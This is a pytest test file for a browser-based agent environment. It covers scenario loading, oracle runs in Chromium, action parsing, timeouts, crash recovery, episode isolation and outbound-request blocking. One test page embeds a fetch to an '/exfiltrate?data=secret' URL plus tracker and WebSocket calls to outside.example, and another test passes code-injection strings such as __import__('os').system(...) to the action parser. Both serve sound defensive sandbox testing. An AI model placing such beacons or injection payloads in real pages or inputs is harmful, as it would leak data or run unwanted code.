"""WebEnv (`trajalign/Web-v0`) in real Chromium: scenarios, oracles, observations, actions, blocking,
timeouts, crashes and cleanup."""

import http.server
import json
import os
import signal
import threading
import time
from pathlib import Path

import gymnasium as gym
import pytest
from gymnasium.utils.env_checker import check_env
from trajalign.agents import OracleAgent, run_episode
from trajalign.envs import ScenarioError, Trajectory, load_scenario
from trajalign.envs.actions import ActionError, ToolCall
from trajalign.envs.browser import browser_processes
from trajalign.envs.jsonl import read_jsonl
from trajalign.envs.site_replay import SiteReplayer
from trajalign.envs.web_actions import bind_web_action, parse_web_action
from trajalign.envs.web_scenario import replay_oracle

import trajalign  # noqa: F401  (registers the environment ids)
from tests.conftest import WEB_SCENARIOS
from trajalign.cli import main


def make(scenario, **kwargs):
    return gym.make("trajalign/Web-v0", scenario=scenario, **kwargs).unwrapped


@pytest.fixture
def wiki_env(shared_env):
    return shared_env("wiki")


@pytest.fixture
def shop_env(shared_env):
    return shared_env("shop")


def write_scenario(folder: Path, page_html: str, extra_routes: str = "", oracle=None) -> Path:
    """A one-task web scenario whose start page is `page_html`."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "site.py").write_text(f'''
from trajalign.envs.web_site import redirect

class Site:
    def __init__(self, initial_state):
        self.state = {{"visits": 0}}

    def handle(self, request):
        if request.path == "/":
            return {page_html!r}
{extra_routes}
        return "<h1>Other page</h1><a id='home' href='/'>Home</a>"
''')
    (folder / "scenario.yaml").write_text(json.dumps({
        "name": folder.name, "kind": "web", "site": "site.py:Site", "test_fraction": 0.0,
        "tasks": [{"id": "only", "goal": "Look at the page.", "required_outputs": [],
                   "oracle": oracle or [{"name": "answer", "arguments": {"text": "seen"}}]}]}))
    return folder


# -- scenarios (no browser) --------------------------------------------------------------------------


def test_three_web_scenarios_with_300_seeded_tasks_split_by_group():
    assert {"shop", "accounts", "wiki"} <= set(WEB_SCENARIOS)
    for name in WEB_SCENARIOS:
        scenario = load_scenario(name)
        train, test = scenario.tasks_in("train"), scenario.tasks_in("test")
        assert scenario.kind == "web" and len(train) + len(test) >= 300, name
        assert len(test) >= 40, name
        assert not {t.group for t in train} & {t.group for t in test}, name
        assert all(task.oracle[-1].name == "answer" and len(task.oracle) >= 3 for task in scenario.tasks), name
        assert load_scenario(name) is scenario  # cached: the oracle replay runs once per process


def test_generation_is_seeded():
    from trajalign.envs.scenario import _load

    for name in WEB_SCENARIOS:
        path = load_scenario(name).path / "scenario.yaml"
        assert [t.model_dump() for t in _load(path).tasks] == [t.model_dump() for t in load_scenario(name).tasks]


def test_loading_replays_every_oracle_and_names_the_failing_step(tmp_path):
    page = "<form action='/s'><input id='q' name='q'><button id='go'>Go</button></form>"
    folder = write_scenario(tmp_path / "broken", page,
                            oracle=[{"name": "type", "arguments": {"id": "q", "text": "x"}},
                                    {"name": "click", "arguments": {"id": "gone"}},
                                    {"name": "answer", "arguments": {"text": "x"}}])
    with pytest.raises(ScenarioError, match=r"task 'only': oracle step 2 \(click\): no element with id 'gone'"):
        load_scenario(folder)


def test_shop_reward_is_the_webshop_fraction_and_one_only_for_an_exact_match():
    shop = load_scenario("shop")
    task = next(t for t in shop.tasks if not t.initial_state["cart"])
    assert shop.score(task, replay_oracle(shop, task), "done") == 1.0
    wanted = task.expected_state["order"]
    # The same product in another colour: every attribute and the price match, one option does not.
    site = shop.make_site(task)
    replayer = SiteReplayer(site, shop.host, shop.start_path)
    for call in task.oracle[:-1]:
        if call.name == "select" and call.arguments["id"] == "colour":
            product = site.products[replayer.url.split("/product/")[1].split("?")[0]]
            other = next(c for c in product.colours if c != wanted["options"]["colour"])
            call = ToolCall(name="select", arguments={"id": "colour", "option": other})
        replayer.act(call)
    requested = len(wanted["attributes"]) + len(wanted["options"]) + 1
    assert shop.score(task, site.state, "done") == pytest.approx((requested - 1) / requested)
    assert shop.score(task, {"cart": [], "orders": []}, "done") == 0.0


# -- the environment in Chromium ----------------------------------------------------------------------


def test_check_env_passes(wiki_env):
    check_env(wiki_env, skip_render_check=True)


def _diverse_sample(scenario, split, count):
    """Tasks whose oracles use different pages and controls (by their element ids, numbers stripped)."""
    chosen, seen = [], set()
    for task in scenario.tasks_in(split):
        signature = frozenset(call.arguments.get("id", call.name).rstrip("0123456789").split("-P")[0]
                              for call in task.oracle)
        if signature not in seen:
            seen.add(signature)
            chosen.append(task)
        if len(chosen) == count:
            break
    return chosen


@pytest.mark.parametrize("name", ["shop", "accounts", "wiki"])
def test_oracle_succeeds_in_chromium_on_a_sample_of_tasks(name, shared_env):
    """A sample of train tasks with different kinds of pages and controls; the slow test below covers both splits."""
    env = shared_env(name)
    for task in _diverse_sample(env.scenario, "train", 3):
        trajectory = run_episode(env, OracleAgent(env.scenario), seed=0, task_id=task.id)
        assert trajectory.status == "success" and trajectory.reward == 1.0, (task.id, trajectory.turns[-1].text)


@pytest.mark.slow
@pytest.mark.parametrize("name", ["shop", "accounts", "wiki"])
def test_oracle_succeeds_in_chromium_on_a_large_sample(name):
    scenario = load_scenario(name)
    for split in ("train", "test"):
        env = make(scenario, split=split)
        tasks = scenario.tasks_in(split)
        for task in tasks[:: max(1, len(tasks) // 30)]:
            trajectory = run_episode(env, OracleAgent(scenario), seed=0, task_id=task.id)
            assert trajectory.status == "success", (task.id, trajectory.turns[-1].text)
        env.close()


def test_observation_is_goal_url_error_and_tree_with_stable_ids(wiki_env):
    task = next(t for t in wiki_env.tasks if t.id.startswith("wiki-"))
    observation, info = wiki_env.reset(seed=0, options={"task_id": task.id})
    lines = observation.splitlines()
    assert lines[0] == f"Goal: {task.goal}" and lines[1] == "URL: http://wiki.test/"
    assert "Last action error: none" in lines
    assert '[nav-regions] link "Regions"' in observation and 'heading "Atlas of Elaria" level=1' in observation
    assert info["goal"] == task.goal and info["url"] == "http://wiki.test/" and "nav-regions" in info["element_ids"]
    assert [tool["function"]["name"] for tool in info["tools"]] == ["click", "type", "select", "scroll", "go_back",
                                                                    "answer"]
    observation, *_ , info = wiki_env.step("click(nav-regions)")
    assert info["url"] == "http://wiki.test/regions" and "columnheader \"Capital\"" in observation
    # The same element keeps its id when the page is read again (scrolling re-reads it).
    again, *_ = wiki_env.step("scroll(down)")
    assert again.split("\n\n", 1)[1] == observation.split("\n\n", 1)[1]
    # Elements without an HTML id get e1, e2, ... in document order.
    wiki_env.session.call(wiki_env.session.page.evaluate("""() => {
        const b = document.createElement('button'); b.textContent = 'Added'; document.querySelector('main').append(b);
    }"""), 10)
    observation, *_ = wiki_env.step("scroll(up)")
    assert '[e1] button "Added"' in observation


def test_actions_in_text_json_and_bare_forms(wiki_env):
    wiki_env.reset(seed=1)
    # The episode's first page is where its history starts: there is nothing to go back to.
    observation, *_, info = wiki_env.step("go_back()")
    assert info["action_error"] == "There is no previous page to go back to." and info["url"] == "http://wiki.test/"
    for action in ['click(nav-cities)', 'click("nav-cities")', 'click(id="nav-cities")',
                   '{"name": "click", "arguments": {"id": "nav-cities"}}',
                   '<tool_call>{"name": "click", "arguments": {"id": "[nav-cities]"}}</tool_call>',
                   'Action: click(nav-cities)']:
        observation, reward, terminated, truncated, info = wiki_env.step(action)
        assert info["action_error"] is None, (action, info["action_error"])
        assert info["url"] == "http://wiki.test/cities", action
        wiki_env.step("click(nav-home)")
    wiki_env.step("click(nav-cities)")
    observation, *_, info = wiki_env.step("click(next-page)")
    assert info["url"] == "http://wiki.test/cities?page=2"
    observation, *_, info = wiki_env.step("go_back()")
    assert info["url"] == "http://wiki.test/cities" and info["action_error"] is None


def test_type_select_and_answer_end_the_episode_with_the_scenarios_reward(shop_env):
    shop, env = shop_env.scenario, shop_env
    task = next(t for t in shop.tasks_in("train") if not t.initial_state["cart"])
    env.reset(seed=0, options={"task_id": task.id})
    query = task.oracle[0].arguments["text"]
    observation, *_, info = env.step(f'type(search-input, "{query}\\n")')  # a newline presses Enter
    assert info["url"].startswith("http://shop.test/search?q=") and "Results for" in observation
    for call in task.oracle[2:-1]:
        observation, reward, terminated, truncated, info = env.step(call.to_text())
        assert info["action_error"] is None and not terminated, (call, observation)
    observation, reward, terminated, truncated, info = env.step('answer("ordered")')
    assert (reward, terminated, info["status"]) == (1.0, True, "success")
    # A fresh site and browser context per episode: the order and the cart are gone.
    observation, info = env.reset(seed=0, options={"task_id": task.id})
    assert '"Cart (0)"' in observation and env.site.state["orders"] == []


def test_bad_actions_are_rejected_counted_and_end_the_episode_at_the_limit(wiki_env):
    observation, info = wiki_env.reset(seed=2)
    wiki_env.step("click(nav-regions)")
    bad = {
        "click(e999)": "There is no element with id 'e999' on this page",
        'type(nav-home, "x")': "is a link, not a text field",
        'select(nav-home, "x")': "not a drop-down list",
        "scroll(left)": "Invalid arguments for scroll",
        "hover(nav-home)": "Unknown action 'hover'",
    }
    for count, (action, reason) in enumerate(bad.items(), start=1):
        observation, reward, terminated, truncated, info = wiki_env.step(action)
        assert reason in info["action_error"], (action, info["action_error"])
        assert f"Last action error: {info['action_error']}" in observation
        assert info["url"] == "http://wiki.test/regions" and "[region-" in observation  # still the same page
        assert info["invalid_actions"] == count and reward == 0.0
    assert terminated and info["status"] == "invalid_action_limit" and wiki_env.max_invalid_actions == 5
    with pytest.raises(RuntimeError, match="call reset"):
        wiki_env.step("click(nav-home)")


def test_the_page_is_read_once_settled_and_a_scriptless_page_at_once(tmp_path):
    # A document with a script of its own (here an inline handler) may still change after it has
    # loaded: it is read once the DOM has been quiet for idle_quiet_ms. Only a script can change a
    # document, so one without any is read as soon as it has loaded.
    page = ("<button id='later' onclick=\"setTimeout(() => document.body.insertAdjacentHTML('beforeend', "
            "'<p>Changed after 300 ms</p>'), 300)\">Change the page</button><a id='plain' href='/plain'>Plain</a>")
    routes = "        if request.path == '/plain':\n            return '<h1>Plain page</h1><a id=\"home\" href=\"/\">Home</a>'"
    env = make(load_scenario(write_scenario(tmp_path / "settling", page, routes)), idle_quiet_ms=1500)
    try:
        env.reset(seed=0)
        started = time.perf_counter()
        observation, *_ = env.step("click(later)")
        assert "Changed after 300 ms" in observation and time.perf_counter() - started >= 1.5
        started = time.perf_counter()
        observation, *_ = env.step("click(plain)")
        assert "Plain page" in observation and time.perf_counter() - started < 1.0
    finally:
        env.close()


def test_an_action_the_page_blocks_times_out_with_a_clear_error(tmp_path):
    page = ("<title>Covered</title><button id='buy' style='position:absolute;top:40px;left:40px'>Buy</button>"
            "<div id='cookie-banner' style='position:fixed;top:0;left:0;width:300px;height:200px;"
            "background:rgba(0,0,0,.4)'>We use cookies</div>"
            "<a id='broken' href='/broken' style='position:absolute;top:400px'>A page whose code fails</a>")
    routes = "        if request.path == '/broken':\n            return 1 / 0"
    env = make(load_scenario(write_scenario(tmp_path / "covered", page, routes)), action_timeout_s=0.5)
    try:
        env.reset(seed=0)
        started = time.perf_counter()
        observation, reward, terminated, truncated, info = env.step("click(buy)")
        assert time.perf_counter() - started < 5
        assert info["action_error"].startswith("click(buy) timed out after 0.5 s")
        assert '<div id="cookie-banner"> intercepts pointer events' in info["action_error"]
        assert info["invalid_actions"] == 1 and info["status"] == "running" and not terminated
        # An exception in the site's code is a server error page, like a tool error: not an env_error.
        observation, reward, terminated, truncated, info = env.step("click(broken)")
        assert "ZeroDivisionError: division by zero" in observation and info["status"] == "running"
        assert info["site_errors"] == ["GET http://covered.test/broken: ZeroDivisionError: division by zero"]
    finally:
        env.close()


class _Trap(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):
        _Trap.hits.append(self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args):
        pass


def _remote_addresses(pids):
    """Remote IP:port of every TCP/UDP socket the processes hold, from /proc."""
    inodes = set()
    for pid in pids:
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                if target.startswith("socket:["):
                    inodes.add(target[8:-1])
        except OSError:
            continue
    remotes = []
    for table in ("tcp", "tcp6", "udp", "udp6"):
        try:
            rows = Path(f"/proc/net/{table}").read_text().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            fields = row.split()
            if fields[9] in inodes:
                address, port = fields[2].split(":")
                remotes.append((table, address, int(port, 16)))
    return remotes


def _is_loopback_or_unconnected(address: str) -> bool:
    """/proc/net addresses are hex, 32-bit words in host (little-endian) order."""
    if set(address) == {"0"}:
        return True  # not connected
    if len(address) == 8:
        return address.endswith("7F")  # 127.x.x.x
    return address in ("00000000000000000000000001000000",  # ::1
                       "0000000000000000FFFF00000100007F")  # ::ffff:127.0.0.1


def test_outside_requests_are_blocked_reported_and_never_leave_loopback(tmp_path):
    trap = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Trap)
    threading.Thread(target=trap.serve_forever, daemon=True).start()
    port = trap.server_address[1]
    _Trap.hits = []
    page = (f"<title>Leaky</title><h1>Leaky page</h1>"
            "<img src='http://outside.example/pixel.png' alt='pixel'>"
            "<script src='http://outside.example/tracker.js'></script>"
            "<iframe src='http://outside.example/ad.html' title='ad'></iframe>"
            f"<img src='http://localhost:{port}/beacon.png' alt='beacon'>"
            f"<script>fetch('http://127.0.0.1:{port}/exfiltrate?data=secret').catch(() => 0);"
            "fetch('https://secure.example/api').catch(() => 0);"
            "try { new WebSocket('ws://outside.example/socket'); } catch (e) {}</script>"
            "<a id='away' href='/away'>Leave</a>")
    routes = '''        if request.path == "/away":
            return redirect("http://outside.example/landing")'''
    env = make(load_scenario(write_scenario(tmp_path / "leaky", page, routes)))
    try:
        observation, info = env.reset(seed=0)
        blocked = list(info["blocked_requests"])
        observation, *_, info = env.step("scroll(down)")  # late events (the WebSocket) arrive with a later step
        blocked += info["blocked_requests"]
        for url in ["http://outside.example/pixel.png", "http://outside.example/tracker.js",
                    "http://outside.example/ad.html", f"http://localhost:{port}/beacon.png",
                    f"http://127.0.0.1:{port}/exfiltrate?data=secret", "https://secure.example/api",
                    "ws://outside.example/socket"]:
            assert url in blocked, (url, blocked)
        # A redirect to another origin is blocked too: the page shows the gateway's refusal.
        observation, *_, info = env.step("click(away)")
        assert info["url"] == "http://outside.example/landing" and 'heading "Blocked" level=1' in observation
        assert "http://outside.example/landing" in info["blocked_requests"]
        # Nothing reached the loopback server standing in for "outside", though it was addressed directly.
        assert _Trap.hits == []
        # The browser's only way out is its loopback gateway: everything it sent went there, and the
        # gateway served only the site.
        gateway = env.session.gateway
        assert gateway.log
        assert all(served == target.startswith("http://leaky.test/") for _, target, served in gateway.log)
        assert {"http://outside.example/pixel.png", "secure.example:443 (tunnel)"} <= set(gateway.blocked)
        # And no socket of any browser process is connected anywhere but loopback.
        remotes = _remote_addresses(env.session.pids())
        assert remotes and all(_is_loopback_or_unconnected(address) for _, address, _ in remotes), remotes
    finally:
        env.close()
        trap.shutdown()


def _alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] not in ("Z", "X")
    except OSError:
        return False


def test_killing_the_browser_mid_episode_is_an_env_error_and_the_next_episode_works(wiki_env):
    wiki, env = wiki_env.scenario, wiki_env
    task = wiki.tasks_in("train")[0]
    env.reset(seed=0, options={"task_id": task.id})
    env.step(task.oracle[0].to_text())
    first = env.session.browser_pid()
    first_processes = env.session.pids()
    assert len(first_processes) > 3  # the browser and its helpers: zygotes, renderers, network service
    os.kill(first, signal.SIGKILL)
    observation, reward, terminated, truncated, info = env.step(task.oracle[1].to_text())
    assert (info["status"], terminated, reward) == ("env_error", True, 0.0)
    assert info["action_error"] is None and "browser failed" in observation and info["env_error"]
    trajectory = run_episode(env, OracleAgent(wiki), seed=0, task_id=task.id)
    assert trajectory.status == "success" and env.session.browser_pid() not in (None, first)
    assert not [pid for pid in first_processes if _alive(pid)]  # its helpers went with it
    # A crashed page (its renderer process killed) is an env_error too, and recovered from.
    env.reset(seed=0, options={"task_id": task.id})
    renderers = [p["pid"] for p in browser_processes(browser_id=env.session.browser_id)
                 if "--type=renderer" in p["cmdline"]]
    for pid in renderers:
        os.kill(pid, signal.SIGKILL)
    assert renderers
    observation, reward, terminated, truncated, info = env.step(task.oracle[0].to_text())
    assert (info["status"], terminated, reward) == ("env_error", True, 0.0)
    assert run_episode(env, OracleAgent(wiki), seed=0, task_id=task.id).status == "success"


_WRITE_EVERYTHING = """async () => {
  document.cookie = 'visited=1; max-age=9999';
  localStorage.setItem('local', '1');
  sessionStorage.setItem('session', '1');
  await new Promise((done) => {
    const open = indexedDB.open('db', 1);
    open.onupgradeneeded = () => open.result.createObjectStore('store');
    open.onsuccess = () => {
      const write = open.result.transaction('store', 'readwrite');
      write.objectStore('store').put(1, 'key');
      write.oncomplete = () => { open.result.close(); done(); };
    };
  });
  // A script still running when the episode ends must not leave anything behind either.
  setInterval(() => localStorage.setItem('late', '1'), 1);
  while (!localStorage.getItem('late')) await new Promise((tick) => setTimeout(tick, 1));
}"""
_READ_EVERYTHING = """async () => ({cookie: document.cookie, local: localStorage.length, session: sessionStorage.length,
  indexedDB: (await indexedDB.databases()).length})"""


@pytest.mark.parametrize("reuse_page", [True, False], ids=["reused-page", "fresh-context"])
def test_nothing_of_an_episode_reaches_the_next(tmp_path, reuse_page):
    page = "<h1>Start</h1><a id='other' href='/other'>Other</a>"
    env = make(load_scenario(write_scenario(tmp_path / "isolated", page)), reuse_page=reuse_page)
    try:
        env.reset(seed=0)
        env.step("click(other)")
        session = env.session
        session.call(session.page.evaluate(_WRITE_EVERYTHING), timeout=30)
        assert session.call(session.page.evaluate(_READ_EVERYTHING), timeout=30) == {
            "cookie": "visited=1", "local": 2, "session": 1, "indexedDB": 1}
        first_page = session.page
        env.reset(seed=0)
        assert (session.page is first_page) == reuse_page
        assert session.call(session.page.evaluate(_READ_EVERYTHING), timeout=30) == {
            "cookie": "", "local": 0, "session": 0, "indexedDB": 0}
        observation, *_, info = env.step("go_back()")  # the last episode's pages are out of reach
        assert info["action_error"] == "There is no previous page to go back to."
        assert info["url"] == env.scenario.origin + "/"
    finally:
        env.close()


def test_one_browser_per_env_across_episodes_and_close_releases_it():
    env = make("wiki")
    env.reset(seed=0)
    pid, browser_id = env.session.browser_pid(), env.session.browser_id
    for seed in (1,):
        env.reset(seed=seed)
        assert env.session.browser_pid() == pid  # the browser is shared; each episode gets a new context
    assert browser_processes(browser_id=browser_id)
    env.close()
    assert browser_processes(browser_id=browser_id) == []
    env.close()  # closing twice is fine


def test_trajalign_rollout_plays_a_web_scenario(tmp_path, capsys):
    out = tmp_path / "wiki.jsonl"
    assert main(["rollout", "--scenario", "wiki", "--agent", "oracle", "--episodes", "2", "--split", "test",
                 "--out", str(out), "--no-progress"]) == 0
    trajectories = read_jsonl(out, Trajectory)
    assert len(trajectories) == 2 and all(t.success and t.scenario == "wiki" for t in trajectories)
    assert trajectories[0].turns[0].text.startswith("Goal: ") and "success rate    1.000" in capsys.readouterr().out


def test_web_actions_parse_without_executing_model_text(tmp_path):
    marker = tmp_path / "pwned"
    for text in [f"click(__import__('os').system('touch {marker}'))", f"click(id=open('{marker}', 'w'))",
                 f"type(e1, __import__('pathlib').Path('{marker}').touch())"]:
        with pytest.raises(ActionError):
            parse_web_action(text)
    assert not marker.exists()
    elements = {"e1": {"role": "textbox", "name": "q", "tag": "input", "editable": True}}
    assert bind_web_action(parse_web_action("scroll(down)"), elements).direction == "down"
    assert bind_web_action(parse_web_action("click(1)"), elements).id == "e1"
    assert bind_web_action(parse_web_action('type(e1, "hi\\n")'), elements).press_enter


DOCS = Path(__file__).resolve().parent.parent / "docs" / "web.md"


def test_the_docs_example_scenario_loads_and_its_oracle_runs_in_chromium(tmp_path, capsys):
    """Write the example web scenario from docs/web.md, using nothing but the docs."""
    import re

    blocks = re.findall(r"```\w+ file=(\S+)\n(.*?)```", DOCS.read_text(), flags=re.DOTALL)
    assert {name for name, _ in blocks} == {"library/scenario.yaml", "library/site.py"}
    for name, body in blocks:
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(body)
    assert main(["scenarios", "check", str(tmp_path / "library")]) == 0
    assert "ok: library (web): " in capsys.readouterr().out
    scenario = load_scenario(tmp_path / "library")
    env = make(scenario)
    try:
        trajectory = run_episode(env, OracleAgent(scenario), seed=0, task_id=scenario.tasks_in("train")[0].id)
        assert trajectory.status == "success" and trajectory.reward == 1.0
        observation, info = env.reset(seed=0)
        observation, *_, info = env.step(f"click({info['element_ids'][0]})")
        observation, *_, info = env.step("click(reserve)")  # no branch chosen: the site says so
        assert "Choose a branch." in observation
    finally:
        env.close()


def test_web_envs_list_available_actions_that_the_page_accepts(shared_env):
    # The candidate list lets agents that choose rather than write (RLlib PPO) act on web pages.
    env = shared_env("accounts")
    task = load_scenario("accounts").tasks_in("train")[0]
    _, info = env.reset(seed=0, options={"task_id": task.id})
    actions = info["available_actions"]
    assert "scroll('down')" in actions and "go_back()" in actions
    for text in actions:  # every candidate binds to this page (a refused one would be an ActionError)
        bind_web_action(parse_web_action(text), env.snapshot.elements)
    typed = {text for text in actions if text.startswith("type(")}
    # The goal's identifiers (user name, password, new address) are offered for every text field.
    assert "omarbrown69" in task.goal and {"username", "password"} <= set(env.snapshot.elements)
    for value in ["omarbrown69", "Harbor-9320", "omar.brown60@mailbox.test"]:
        assert {f"type('username', {value!r})", f"type('password', {value!r})"} <= typed
    assert "click('login-button')" in actions


def test_admissible_actions_wrap_a_web_env(shared_env):
    from trajalign.envs.admissible import AdmissibleActionEnv

    env = AdmissibleActionEnv(shared_env("shop"), max_candidates=16)
    features, info = env.reset(seed=0, options={"task_id": load_scenario("shop").tasks_in("train")[0].id})
    assert env.observation_space.contains(features) and 0 < len(info["candidates"]) <= 16
    for _ in range(3):
        features, reward, terminated, truncated, info = env.step(0)
        assert env.observation_space.contains(features) and info["action_text"]
        if terminated or truncated:
            break
